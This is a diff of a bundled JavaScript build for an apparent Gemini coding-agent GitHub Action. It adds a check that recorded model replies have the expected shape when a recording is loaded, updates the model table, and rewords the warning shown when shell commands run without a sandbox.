 ;// CONCATENATED MODULE: ./src/model/user-agent.ts
 
 /** The `User-Agent` every model request carries, so server-side logs can tell our traffic apart. */
@@ -3659,10 +3883,10 @@ function explainUnreachable(generator, endpoint) {
     };
 }
 
-// EXTERNAL MODULE: ./src/model/recording.ts
-var recording = __webpack_require__(7570);
+// EXTERNAL MODULE: ./src/model/recording.ts + 1 modules
+var recording = __webpack_require__(26602);
 // EXTERNAL MODULE: ./src/model/retry.ts + 1 modules
-var retry = __webpack_require__(2638);
+var retry = __webpack_require__(92638);
 ;// CONCATENATED MODULE: ./src/model/create-content-generator.ts
 
 
@@ -3707,7 +3931,7 @@ async function createContentGenerator(auth, options = {}) {
 
 /***/ }),
 
-/***/ 7206:
+/***/ 87206:
 /***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
 
 /* harmony export */ __webpack_require__.d(__webpack_exports__, {
@@ -3778,13 +4002,13 @@ class ModelRequestError extends Error {
 
 /***/ }),
 
-/***/ 7815:
+/***/ 67815:
 /***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
 
 /* harmony export */ __webpack_require__.d(__webpack_exports__, {
 /* harmony export */   k: () => (/* binding */ resolveModelAuth)
 /* harmony export */ });
-/* harmony import */ var _platform_errors_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(6316);
+/* harmony import */ var _platform_errors_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(46316);
 
 const HOW_TO_SET_UP = 'Set GEMINI_API_KEY, or GOOGLE_GENAI_USE_VERTEXAI=true with GOOGLE_CLOUD_PROJECT and GOOGLE_CLOUD_LOCATION (or GOOGLE_API_KEY), or GOOGLE_GENAI_USE_GCA=true.';
 function value(env, name) {
@@ -3854,7 +4078,7 @@ function resolveModelAuth(env) {
 
 /***/ }),
 
-/***/ 1106:
+/***/ 11106:
 /***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
 
 /* harmony export */ __webpack_require__.d(__webpack_exports__, {
@@ -3864,7 +4088,7 @@ function resolveModelAuth(env) {
 /* harmony export */   pw: () => (/* binding */ quotaExhaustedMessage)
 /* harmony export */ });
 /* unused harmony exports chooseModel, modelLabel */
-/* harmony import */ var _model_table_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(109);
+/* harmony import */ var _model_table_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(90109);
 
 /**
  * The first setting that chooses a model, aliases resolved; the table's default when none does.
@@ -3928,7 +4152,7 @@ function fallbackNotice(from, to, error) {
 
 /***/ }),
 
-/***/ 109:
+/***/ 90109:
 /***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
 
 
@@ -3945,9 +4169,9 @@ __webpack_require__.d(__webpack_exports__, {
 // UNUSED EXPORTS: familyOf, findModel, parseModelTable
 
 // EXTERNAL MODULE: ./node_modules/@google/genai/dist/node/index.mjs + 1 modules
-var node = __webpack_require__(7964);
+var node = __webpack_require__(67964);
 // EXTERNAL MODULE: ./node_modules/zod/v4/classic/schemas.js + 4 modules
-var schemas = __webpack_require__(1514);
+var schemas = __webpack_require__(41514);
 ;// CONCATENATED MODULE: ./src/model/model-table.json
 const model_table_namespaceObject = /*#__PURE__*/JSON.parse('{"checked":"2026-11-26","sources":{"models":"https://ai.google.dev/gemini-api/docs/models","deprecations":"https://ai.google.dev/gemini-api/docs/deprecations","thinking":"https://ai.google.dev/gemini-api/docs/thinking","thinkingLevels":"https://docs.cloud.google.com/gemini-enterprise-agent-platform/models/thinking","gemini3":"https://ai.google.dev/gemini-api/docs/gemini-3","gemini3Sampling":"https://docs.cloud.google.com/vertex-ai/generative-ai/docs/start/gemini-3-prompting-guide","gemini38Flash":"https://docs.cloud.google.com/gemini-enterprise-agent-platform/models/guides/gemini-3-8-flash","gemini25Shutdown":"https://dev.to/aideprecations/what-to-do-before-gemini-25-pro-and-25-flash-are-retired-on-december-1-2026-5gg9"},"default":"gemini-3.8-flash","defaultReason":"The newest generally available (stable) model of the Gemini API (released 2026-09-02, no shutdown date announced), described as the most intelligent Flash model for long-horizon software engineering and agentic tasks; Google names it as the replacement for gemini-2.5-pro, which shuts down on 2026-12-01. Sources: models, deprecations, gemini38Flash, gemini25Shutdown.","aliases":{"pro":"gemini-3.1-pro-preview","flash":"gemini-3.8-flash","flash-lite":"gemini-3.5-flash-lite"},"aliasReason":"Gemini 3 has no generally available Pro model: gemini-3.1-pro-preview is the only Pro model the models page lists, so `pro` chooses it knowingly (a preview model may change or be shut down with shorter notice). `flash` is the default; `flash-lite` the newest stable Flash-Lite model.","families":[{"name":"gemini-3","pattern":"^gemini-3(?:[.-]|$)","thinkingLevel":"HIGH","sampling":null,"why":"Gemini 3 models take `thinkingLevel`, not `thinkingBudget` (thinking). HIGH is supported by every Gemini 3 text model (thinkingLevels) and gives the deepest reasoning for multi-step coding work, as the Gemini CLI sends it. No temperature, topP or topK: Google recommends leaving Gemini 3 at its default temperature of 1.0, as lower values can cause looping or degraded performance (gemini3, gemini3Sampling)."},{"name":"gemini-2.5","pattern":"^gemini-2\\\\.5-","thinkingBudget":8192,"sampling":{"temperature":0,"topP":1},"why":"Gemini 2.5 models take a token `thinkingBudget` and no `thinkingLevel` (thinking); 8192 is the Gemini CLI\'s budget. Deterministic sampling suits a coding agent on these models."}],"models":[{"name":"gemini-3.8-flash","family":"gemini-3","stage":"stable","released":"2026-09-02"},{"name":"gemini-3.7-flash","family":"gemini-3","stage":"stable","released":"2026-08-13"},{"name":"gemini-3.6-flash","family":"gemini-3","stage":"stable","released":"2026-07-21"},{"name":"gemini-3.5-flash","family":"gemini-3","stage":"stable","released":"2026-05-19"},{"name":"gemini-3.5-flash-lite","family":"gemini-3","stage":"stable","released":"2026-07-21","thinkingLevel":"LOW","note":"Flash-Lite is chosen for cost and speed: LOW is the cheapest level the thinking docs describe as suited to code and agentic tasks (its own default, MINIMAL, all but turns thinking off)."},{"name":"gemini-3.1-flash-lite","family":"gemini-3","stage":"stable","released":"2026-05-07","shutdown":"2027-05-07","thinkingLevel":"LOW","note":"As gemini-3.5-flash-lite."},{"name":"gemini-3.1-pro-preview","family":"gemini-3","stage":"preview","released":"2026-02-19"},{"name":"gemini-3-flash-preview","family":"gemini-3","stage":"preview","released":"2025-12-17"},{"name":"gemini-2.5-flash-lite","family":"gemini-2.5","stage":"stable","released":"2025-07-22"},{"name":"gemini-2.5-pro","family":"gemini-2.5","stage":"deprecated","released":"2025-06-17","shutdown":"2026-12-01","replacement":"gemini-3.8-flash"},{"name":"gemini-2.5-flash","family":"gemini-2.5","stage":"deprecated","released":"2025-06-17","shutdown":"2026-12-01","replacement":"gemini-3.5-flash-lite"}]}');
 ;// CONCATENATED MODULE: ./src/model/model-table.ts
@@ -4123,21 +4347,98 @@ function deprecationNotice(name, table = MODEL_TABLE) {
 
 /***/ }),
 
-/***/ 7570:
+/***/ 26602:
 /***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
 
-/* harmony export */ __webpack_require__.d(__webpack_exports__, {
-/* harmony export */   hP: () => (/* binding */ readRecordedSession),
-/* harmony export */   oQ: () => (/* binding */ RecordingContentGenerator),
-/* harmony export */   xu: () => (/* binding */ fileRecordingSink)
-/* harmony export */ });
-/* unused harmony exports serializeRecordedCall, parseRecordedSession */
-/* harmony import */ var node_fs__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(3024);
-/* harmony import */ var node_fs__WEBPACK_IMPORTED_MODULE_0___default = /*#__PURE__*/__webpack_require__.n(node_fs__WEBPACK_IMPORTED_MODULE_0__);
-/* harmony import */ var node_fs_promises__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(1455);
-/* harmony import */ var node_fs_promises__WEBPACK_IMPORTED_MODULE_1___default = /*#__PURE__*/__webpack_require__.n(node_fs_promises__WEBPACK_IMPORTED_MODULE_1__);
-/* harmony import */ var _google_genai__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(7964);
-/* harmony import */ var _platform_errors_js__WEBPACK_IMPORTED_MODULE_3__ = __webpack_require__(6316);
+
+// EXPORTS
+__webpack_require__.d(__webpack_exports__, {
+  oQ: () => (/* binding */ RecordingContentGenerator),
+  xu: () => (/* binding */ fileRecordingSink),
+  hP: () => (/* binding */ readRecordedSession)
+});
+
+// UNUSED EXPORTS: parseRecordedSession, serializeRecordedCall
+
+// EXTERNAL MODULE: external "node:fs"
+var external_node_fs_ = __webpack_require__(73024);
+// EXTERNAL MODULE: external "node:fs/promises"
+var promises_ = __webpack_require__(51455);
+// EXTERNAL MODULE: ./node_modules/@google/genai/dist/node/index.mjs + 1 modules
+var node = __webpack_require__(67964);
+// EXTERNAL MODULE: ./src/platform/errors.ts
+var errors = __webpack_require__(46316);
+// EXTERNAL MODULE: ./node_modules/zod/v4/classic/schemas.js + 4 modules
+var schemas = __webpack_require__(41514);
+;// CONCATENATED MODULE: ./src/model/response-shape.ts
+/**
+ * The shape of a GenerateContentResponse (the `@google/genai` type a recorded session replays),
+ * checked when a recording is loaded: a hand-edited or truncated file then fails at its own line
+ * with what was expected, instead of as an odd model reply in the middle of a replayed run.
+ *
+ * Only the fields the agent reads are typed; anything else passes through untouched, since the
+ * API adds fields over time and a recording must keep replaying.
+ */
+
+const functionCall = schemas/* looseObject */._H3({
+    id: schemas/* string */.YjP().optional(),
+    name: schemas/* string */.YjP(),
+    args: schemas/* record */.g1P(schemas/* string */.YjP(), schemas/* unknown */.L5J()).optional(),
+});
+const part = schemas/* looseObject */._H3({
+    text: schemas/* string */.YjP().optional(),
+    thought: schemas/* boolean */.zMY().optional(),
+    thoughtSignature: schemas/* string */.YjP().optional(),
+    functionCall: functionCall.optional(),
+});
+const candidate = schemas/* looseObject */._H3({
+    content: schemas/* looseObject */._H3({ role: schemas/* string */.YjP().optional(), parts: schemas/* array */.YOg(part).optional() })
+        .optional(),
+    finishReason: schemas/* string */.YjP().optional(),
+    index: schemas/* number */.aig().optional(),
+});
+const count = schemas/* number */.aig().int().nonnegative().optional();
+const responseFields = schemas/* looseObject */._H3({
+    candidates: schemas/* array */.YOg(candidate).optional(),
+    promptFeedback: schemas/* looseObject */._H3({ blockReason: schemas/* string */.YjP().optional() }).optional(),
+    usageMetadata: schemas/* looseObject */._H3({
+        promptTokenCount: count,
+        candidatesTokenCount: count,
+        totalTokenCount: count,
+        thoughtsTokenCount: count,
+        cachedContentTokenCount: count,
+    })
+        .optional(),
+    modelVersion: schemas/* string */.YjP().optional(),
+    responseId: schemas/* string */.YjP().optional(),
+});
+/** What makes an object a reply at all; `{"text": "…"}` alone is not one. */
+const REPLY_FIELDS = ['candidates', 'promptFeedback', 'usageMetadata'];
+/**
+ * Why `value` is not a GenerateContentResponse (the first problem, with the path to it), or
+ * undefined when it is one.
+ */
+function responseShapeProblem(value) {
+    if (typeof value !== 'object' || value === null || Array.isArray(value)) {
+        return 'expected an object';
+    }
+    const keys = Object.keys(value);
+    if (!REPLY_FIELDS.some((field) => keys.includes(field))) {
+        const got = keys.length === 0 ? 'an empty object' : `only ${keys.join(', ')}`;
+        return `expected at least one of ${REPLY_FIELDS.join(', ')}, got ${got}`;
+    }
+    const checked = responseFields.safeParse(value);
+    if (checked.success)
+        return undefined;
+    const issue = checked.error.issues[0];
+    if (issue === undefined)
+        return 'expected a GenerateContentResponse';
+    const where = issue.path.map((key) => (typeof key === 'number' ? `[${key}]` : `.${String(key)}`));
+    return `${where.join('').replace(/^\./, '')}: ${issue.message}`;
+}
+
+;// CONCATENATED MODULE: ./src/model/recording.ts
+
 
 
 
@@ -4154,10 +4455,10 @@ const METHODS = [
  */
 function fileRecordingSink(path, options = {}) {
     if (options.truncate)
-        (0,node_fs__WEBPACK_IMPORTED_MODULE_0__.writeFileSync)(path, '');
+        (0,external_node_fs_.writeFileSync)(path, '');
     return {
         write: (line) => {
-            (0,node_fs__WEBPACK_IMPORTED_MODULE_0__.appendFileSync)(path, line);
+            (0,external_node_fs_.appendFileSync)(path, line);
         },
     };
 }
@@ -4224,7 +4525,7 @@ function isObject(value) {
 }
 function toCall(value, where) {
     const fail = (message) => {
-        throw new _platform_errors_js__WEBPACK_IMPORTED_MODULE_3__/* .ConfigurationError */ .j1(message, where);
+        throw new errors/* ConfigurationError */.j1(message, where);
     };
     if (!isObject(value))
         return fail('expected a JSON object {"method": …, "response": …}.');
@@ -4238,35 +4539,49 @@ function toCall(value, where) {
             if (!Array.isArray(response) || !response.every(isObject)) {
                 return fail('expected "response" of generateContentStream to be an array of response objects.');
             }
+            for (const [index, chunk] of response.entries()) {
+                const problem = responseShapeProblem(chunk);
+                if (problem !== undefined) {
+                    return fail(`expected "response" of generateContentStream to be GenerateContentResponse chunks; chunk ${index + 1}: ${problem}.`);
+                }
+            }
             return {
                 method: 'generateContentStream',
-                response: response.map((chunk) => Object.assign(new _google_genai__WEBPACK_IMPORTED_MODULE_2__/* .GenerateContentResponse */ .ii(), chunk)),
+                response: response.map((chunk) => Object.assign(new node/* GenerateContentResponse */.ii(), chunk)),
             };
         }
-        case 'generateContent':
+        case 'generateContent': {
             if (!isObject(response))
                 return fail('expected "response" of generateContent to be an object.');
+            const problem = responseShapeProblem(response);
+            if (problem !== undefined) {
+                return fail(`expected "response" of generateContent to be a GenerateContentResponse: ${problem}.`);
+            }
             return {
                 method: 'generateContent',
-                response: Object.assign(new _google_genai__WEBPACK_IMPORTED_MODULE_2__/* .GenerateContentResponse */ .ii(), response),
+                response: Object.assign(new node/* GenerateContentResponse */.ii(), response),
             };
+        }
         case 'countTokens':
             if (!isObject(response))
                 return fail('expected "response" of countTokens to be an object.');
             return {
                 method: 'countTokens',
-                response: Object.assign(new _google_genai__WEBPACK_IMPORTED_MODULE_2__/* .CountTokensResponse */ .nL(), response),
+                response: Object.assign(new node/* CountTokensResponse */.nL(), response),
             };
         case 'embedContent':
             if (!isObject(response))
                 return fail('expected "response" of embedContent to be an object.');
             return {
                 method: 'embedContent',
-                response: Object.assign(new _google_genai__WEBPACK_IMPORTED_MODULE_2__/* .EmbedContentResponse */ .qo(), response),
+                response: Object.assign(new node/* EmbedContentResponse */.qo(), response),
             };
     }
 }
-/** Parses recorded-session text; `file` names it in errors. Blank lines are skipped. */
+/**
+ * Parses recorded-session text; `file` names it in errors. Blank lines are skipped; a file without
+ * any call is an error, since it can answer nothing.
+ */
 function parseRecordedSession(text, file) {
     const calls = [];
     const lines = text.split('\n');
@@ -4280,9 +4595,12 @@ function parseRecordedSession(text, file) {
             value = JSON.parse(line);
         }
         catch (error) {
-            throw new _platform_errors_js__WEBPACK_IMPORTED_MODULE_3__/* .ConfigurationError */ .j1(`expected one JSON object per line, got text that is not JSON (${error instanceof Error ? error.message : String(error)}).`, where);
+            throw new errors/* ConfigurationError */.j1(`expected one JSON object per line, got text that is not JSON (${error instanceof Error ? error.message : String(error)}).`, where);
         }
         calls.push(toCall(value, where));
+    }
+    if (calls.length === 0) {
+        throw new errors/* ConfigurationError */.j1('the recorded session is empty: expected one {"method": …, "response": …} JSON object per model call, one a line.', { file });
     }
     return calls;
 }
@@ -4290,10 +4608,10 @@ function parseRecordedSession(text, file) {
 async function readRecordedSession(path) {
     let text;
     try {
-        text = await (0,node_fs_promises__WEBPACK_IMPORTED_MODULE_1__.readFile)(path, 'utf8');
+        text = await (0,promises_.readFile)(path, 'utf8');
     }
     catch (error) {
-        throw new _platform_errors_js__WEBPACK_IMPORTED_MODULE_3__/* .ConfigurationError */ .j1(`expected a readable recorded-session file (${error instanceof Error ? error.message : String(error)}).`, { file: path }, { cause: error });
+        throw new errors/* ConfigurationError */.j1(`expected a readable recorded-session file (${error instanceof Error ? error.message : String(error)}).`, { file: path }, { cause: error });
     }
     return parseRecordedSession(text, path);
 }
@@ -4301,7 +4619,7 @@ async function readRecordedSession(path) {
 
 /***/ }),
 
-/***/ 2638:
+/***/ 92638:
 /***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
 
 
@@ -4314,7 +4632,7 @@ __webpack_require__.d(__webpack_exports__, {
 // UNUSED EXPORTS: DEFAULT_RETRY_OPTIONS, backoffDelay, defaultSleep
 
 // EXTERNAL MODULE: ./src/model/errors.ts
-var errors = __webpack_require__(7206);
+var errors = __webpack_require__(87206);
 ;// CONCATENATED MODULE: ./src/model/response-validation.ts
 /**
  * Checks a complete model reply (all chunks of a stream, or one unary response) for the ways the
@@ -4568,59 +4886,7 @@ async function* replay(chunks) {
 
 /***/ }),
 
-/***/ 6316:
-/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
-
-/* harmony export */ __webpack_require__.d(__webpack_exports__, {
-/* harmony export */   eb: () => (/* binding */ UsageError),
-/* harmony export */   gJ: () => (/* binding */ errorMessage),
-/* harmony export */   j1: () => (/* binding */ ConfigurationError),
-/* harmony export */   v3: () => (/* binding */ AuthenticationError)
-/* harmony export */ });
-/**
- * Errors a user can fix. Each says what was expected and where (the input, flag, file, line and
- * column), so the message alone is enough to fix the problem. Bugs are never dressed up as these.
- */
-function formatLocation(location) {
-    if (!location)
-        return '';
-    if (location.file) {
-        const parts = [location.file, location.line, location.column].filter((p) => p !== undefined);
-        return `${parts.join(':')}: `;
-    }
-    return location.input ? `${location.input}: ` : '';
-}
-/** Bad configuration: settings, policy files, Action inputs, environment. CLI exit code 52. */
-class ConfigurationError extends Error {
-    name = 'ConfigurationError';
-    location;
-    /** The message without its location, for callers that place it themselves. */
-    detail;
-    constructor(message, location, options) {
-        super(`${formatLocation(location)}${message}`, options);
-        this.location = location;
-        this.detail = message;
-    }
-}
-/** Bad command-line usage or input (unknown flag, missing prompt). CLI exit code 42. */
-class UsageError extends ConfigurationError {
-    name = 'UsageError';
-}
-/** Missing or rejected model credentials. CLI exit code 41. */
-class AuthenticationError extends ConfigurationError {
-    name = 'AuthenticationError';
-}
-/** The message of any thrown value, without a stack trace. */
-function errorMessage(error) {
-    if (error instanceof Error)
-        return error.message;
-    return typeof error === 'string' ? error : JSON.stringify(error);
-}
-
-
-/***/ }),
-
-/***/ 3255:
+/***/ 63255:
 /***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
 
 /* harmony export */ __webpack_require__.d(__webpack_exports__, {
@@ -4666,7 +4932,7 @@ function memoryLogger() {
 
 /***/ }),
 
-/***/ 192:
+/***/ 70192:
 /***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
 
 /* harmony export */ __webpack_require__.d(__webpack_exports__, {
@@ -4676,11 +4942,11 @@ function memoryLogger() {
 /* harmony export */   rR: () => (/* binding */ listProcessGroup)
 /* harmony export */ });
 /* unused harmony exports signalProcessGroup, waitForProcessGroupExit */
-/* harmony import */ var node_child_process__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(1421);
+/* harmony import */ var node_child_process__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(31421);
 /* harmony import */ var node_child_process__WEBPACK_IMPORTED_MODULE_0___default = /*#__PURE__*/__webpack_require__.n(node_child_process__WEBPACK_IMPORTED_MODULE_0__);
-/* harmony import */ var node_fs__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(3024);
+/* harmony import */ var node_fs__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(73024);
 /* harmony import */ var node_fs__WEBPACK_IMPORTED_MODULE_1___default = /*#__PURE__*/__webpack_require__.n(node_fs__WEBPACK_IMPORTED_MODULE_1__);
-/* harmony import */ var node_fs_promises__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(1455);
+/* harmony import */ var node_fs_promises__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(51455);
 /* harmony import */ var node_fs_promises__WEBPACK_IMPORTED_MODULE_2___default = /*#__PURE__*/__webpack_require__.n(node_fs_promises__WEBPACK_IMPORTED_MODULE_2__);
 /**
  * Process groups: a tool command runs as the leader of its own group (spawned with
@@ -4842,7 +5108,7 @@ class ProcessGroupTracker {
 
 /***/ }),
 
-/***/ 3178:
+/***/ 63178:
 /***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
 
 /* harmony export */ __webpack_require__.d(__webpack_exports__, {
@@ -5071,30 +5337,32 @@ function secretEnvironmentValues(env) {
 
 /***/ }),
 
-/***/ 7669:
+/***/ 33784:
 /***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
 
 
 // EXPORTS
 __webpack_require__.d(__webpack_exports__, {
-  g: () => (/* binding */ reportSandbox),
-  u: () => (/* binding */ resolveSandbox)
+  go: () => (/* binding */ reportSandbox),
+  u1: () => (/* binding */ resolveSandbox)
 });
 
+// UNUSED EXPORTS: ACTION_SANDBOX_OFF, unsandboxedNotice
+
 // EXTERNAL MODULE: external "node:fs/promises"
-var promises_ = __webpack_require__(1455);
+var promises_ = __webpack_require__(51455);
 // EXTERNAL MODULE: external "node:os"
-var external_node_os_ = __webpack_require__(8161);
+var external_node_os_ = __webpack_require__(48161);
 var external_node_os_default = /*#__PURE__*/__webpack_require__.n(external_node_os_);
 // EXTERNAL MODULE: external "node:path"
-var external_node_path_ = __webpack_require__(6760);
+var external_node_path_ = __webpack_require__(76760);
 var external_node_path_default = /*#__PURE__*/__webpack_require__.n(external_node_path_);
 // EXTERNAL MODULE: ./src/platform/errors.ts
-var errors = __webpack_require__(6316);
+var errors = __webpack_require__(46316);
 // EXTERNAL MODULE: external "node:child_process"
-var external_node_child_process_ = __webpack_require__(1421);
+var external_node_child_process_ = __webpack_require__(31421);
 // EXTERNAL MODULE: ./src/platform/process-group.ts
-var process_group = __webpack_require__(192);
+var process_group = __webpack_require__(70192);
 ;// CONCATENATED MODULE: ./src/platform/sandbox/namespace-setup.ts
 /**
  * The script that prepares a namespace sandbox. It runs once per session as the first process
@@ -5224,7 +5492,7 @@ function setupArguments(setup) {
 }
 
 // EXTERNAL MODULE: external "node:fs"
-var external_node_fs_ = __webpack_require__(3024);
+var external_node_fs_ = __webpack_require__(73024);
 ;// CONCATENATED MODULE: ./src/platform/sandbox/sandbox-paths.ts
 /**
  * Which directories a namespace sandbox hides, which stay visible under them, and which sockets
@@ -5380,55 +5648,8 @@ function runnerRoot(execPath) {
     return undefined;
 }
 
-;// CONCATENATED MODULE: ./src/platform/sandbox/run-program.ts
-/**
- * Runs a helper program (unshare, chown, useradd…) to its end: an argument list, never a shell,
- * with a time limit so a program waiting for something (a sudo password prompt) cannot hang the
- * run.
- */
-
-const DEFAULT_TIMEOUT_MS = 30_000;
-const runProgram = (argv, options = {}) => {
-    const [command, ...args] = argv;
-    if (command === undefined)
-        return Promise.resolve({ exitCode: null, stdout: '', stderr: '' });
-    return new Promise((resolve) => {
-        (0,external_node_child_process_.execFile)(command, args, {
-            env: options.env ?? { PATH: process.env.PATH ?? '/usr/sbin:/usr/bin:/sbin:/bin' },
-            cwd: options.cwd ?? '/',
-            timeout: options.timeoutMs ?? DEFAULT_TIMEOUT_MS,
-            killSignal: 'SIGKILL',
-            maxBuffer: 1024 * 1024,
-            encoding: 'utf8',
-        }, (error, stdout, stderr) => {
-            if (error === null) {
-                resolve({ exitCode: 0, stdout, stderr });
-                return;
-            }
-            const code = error.code;
-            if (typeof code === 'number') {
-                resolve({ exitCode: code, stdout, stderr });
-                return;
-            }
-            resolve({
-                exitCode: null,
-                stdout,
-                stderr,
-                error: error.killed ? `timed out or was killed` : error.message,
-            });
-        });
-    });
-};
-/** The program's own words about a failure, for messages: stderr, else the error, else the code. */
-function failureText(result) {
-    const stderr = result.stderr.trim().split('\n').slice(-3).join(' ').trim();
-    if (stderr !== '')
-        return stderr;
-    if (result.error !== undefined)
-        return result.error;
-    return `exit code ${result.exitCode ?? '(none)'}`;
-}
-
+// EXTERNAL MODULE: ./src/platform/sandbox/run-program.ts
+var run_program = __webpack_require__(17583);
 ;// CONCATENATED MODULE: ./src/platform/sandbox/workspace-loan.ts
 
 async function lendWorkspace(options) {
@@ -5454,7 +5675,7 @@ async function lendWorkspace(options) {
             '+',
         ]);
         if (result.exitCode !== 0) {
-            logger.warning(`Could not hand the workspace to the sandbox user; commands may fail to write files: ${failureText(result)}`);
+            logger.warning(`Could not hand the workspace to the sandbox user; commands may fail to write files: ${(0,run_program/* failureText */.k)(result)}`);
         }
     };
     await handOver();
@@ -5482,7 +5703,7 @@ async function lendWorkspace(options) {
                 '+',
             ]);
             if (result.exitCode !== 0) {
-                logger.warning(`Could not give the workspace back from the sandbox user: ${failureText(result)}`);
+                logger.warning(`Could not give the workspace back from the sandbox user: ${(0,run_program/* failureText */.k)(result)}`);
             }
         },
     };
@@ -5835,7 +6056,7 @@ function platformName(platform) {
     return PLATFORM_NAMES[platform] ?? platform;
 }
 function noneDescription(options) {
-    const base = "Shell commands run as the Action's own user with only an allow-listed environment; the policy is the only guard.";
+    const base = "Shell commands run as the Action's own user with only an allow-listed environment; the policy, and its check that commands name files inside the workspace only, are the guards.";
     let describe = base;
     if (options.platform !== 'linux') {
         describe = `No sandbox exists on ${platformName(options.platform)} runners. ${base} For runs on untrusted input, use a Linux runner.`;
@@ -5856,60 +6077,8 @@ function noneDescription(options) {
 
 // EXTERNAL MODULE: ./src/platform/sandbox/sandbox-types.ts
 var sandbox_types = __webpack_require__(9332);
-;// CONCATENATED MODULE: ./src/platform/sandbox/sandbox-user.ts
-
-const SANDBOX_USER_NAME = 'gemini-agent-sandbox';
-/** Finds or creates the sandbox user; undefined with the reason when neither works. */
-async function ensureSandboxUser(run, options = {}) {
-    const name = options.name ?? SANDBOX_USER_NAME;
-    const existing = await lookUpUser(run, name);
-    if (existing !== undefined)
-        return { name, ...existing, dedicated: true };
-    const attempts = [
-        // shadow-utils (Debian, Ubuntu, Fedora): a system account with its own group.
-        [
-            'useradd',
-            '--system',
-            '--user-group',
-            '--no-create-home',
-            '--home-dir',
-            '/nonexistent',
-            '--shell',
-            '/usr/sbin/nologin',
-            name,
-        ],
-        // BusyBox (Alpine).
-        ['adduser', '-S', '-D', '-H', '-h', '/nonexistent', '-s', '/sbin/nologin', name],
-    ];
-    const problems = [];
-    for (const argv of attempts) {
-        const result = await run(argv);
-        // Another process may have created it meanwhile: whether it exists now is what counts.
-        const created = await lookUpUser(run, name);
-        if (created !== undefined)
-            return { name, ...created, dedicated: true };
-        problems.push(`${argv[0] ?? ''}: ${failureText(result)}`);
-    }
-    if (options.allowNobody !== false) {
-        const nobody = await lookUpUser(run, 'nobody');
-        if (nobody !== undefined && nobody.uid !== 0) {
-            return { name: 'nobody', ...nobody, dedicated: false };
-        }
-    }
-    return { problem: `cannot create the user ${name} (${problems.join('; ')})` };
-}
-async function lookUpUser(run, name) {
-    const uid = await run(['id', '-u', name]);
-    const gid = await run(['id', '-g', name]);
-    const uidNumber = Number(uid.stdout.trim());
-    const gidNumber = Number(gid.stdout.trim());
-    if (uid.exitCode !== 0 || gid.exitCode !== 0)
-        return undefined;
-    if (!Number.isInteger(uidNumber) || !Number.isInteger(gidNumber))
-        return undefined;
-    return { uid: uidNumber, gid: gidNumber };
-}
-
+// EXTERNAL MODULE: ./src/platform/sandbox/sandbox-user.ts
+var sandbox_user = __webpack_require__(62014);
 ;// CONCATENATED MODULE: ./src/platform/sandbox/user-session.ts
 /**
  * A user sandbox for one agent session: commands run as the unprivileged sandbox user, with
@@ -6096,23 +6265,56 @@ async function resolveSandbox(mode, options) {
         return noneSandbox({ platform, reason: problems.join('; ') });
     throw new errors/* ConfigurationError */.j1(`expected a sandbox that works on this machine, but ${mode} does not (${problems.join('; ')}). Use auto to take the strongest one that works, or none.`, { input: setting });
 }
+/** How an Action run chooses to go without a sandbox. */
+const ACTION_SANDBOX_OFF = 'Set the input sandbox: none to run without one on purpose and silence this warning.';
 /**
- * Logs the one line saying which sandbox runs and what it does not protect (a warning when there
- * is none although one was wanted) and returns it for the job summary.
+ * Logs which sandbox runs — when there is none although one was wanted, once and plainly, with
+ * what that means and how to silence it (`silence`; the Action's input by default) — and returns
+ * the line for the job summary, which also says what the sandbox does not protect.
  */
 function reportSandbox(sandbox, options) {
     const line = (0,sandbox_types/* sandboxSummaryLine */.k)(sandbox, options);
-    if (sandbox.kind === 'none' && options.mode !== 'none')
-        options.logger.warning(line);
-    else
+    const notice = unsandboxedNotice(sandbox, {
+        mode: options.mode,
+        silence: options.silence ?? ACTION_SANDBOX_OFF,
+    });
+    if (notice !== undefined) {
+        options.logger.warning(notice);
+        options.logger.debug(line);
+    }
+    else if (options.quiet === true) {
+        options.logger.debug(line);
+    }
+    else {
         options.logger.info(line);
+    }
     return line;
 }
+/**
+ * What a run without the sandbox it wanted means, in words for whoever started it; undefined when
+ * a sandbox runs or none was asked for.
+ */
+function unsandboxedNotice(sandbox, options) {
+    if (sandbox.kind !== 'none' || options.mode === 'none')
+        return undefined;
+    const why = sandbox.unavailable ?? 'none could be set up here';
+    return (`No sandbox: ${why}, so shell commands run unsandboxed, as this process's user. The policy ` +
+        'still decides which commands run, and commands that read files (cat, grep, ls and the like) ' +
+        'may only name files inside the workspace; but a command the policy allows that runs code ' +
+        '(a test script, say) can read and change whatever this user can, and reach the network. ' +
+        options.silence);
+}
 function noneSandbox(options) {
+    const unavailable = options.platform !== 'linux'
+        ? `no sandbox exists on ${platformName(options.platform)}`
+        : options.reason !== undefined
+            ? 'none of the sandboxes could be set up on this machine (the debug log says why)'
+            : undefined;
     return {
         kind: 'none',
         ...noneDescription(options),
         canIsolateNetwork: false,
+        ...(unavailable === undefined ? {} : { unavailable }),
         open: () => Promise.resolve(passThroughSession),
     };
 }
@@ -6140,7 +6342,7 @@ async function elevationsFor(options) {
         return options.elevations;
     if (actionOwner(options).uid === 0)
         return ['root'];
-    const sudo = await (options.run ?? runProgram)([...(options.sudo ?? DEFAULT_SUDO), 'true'], {
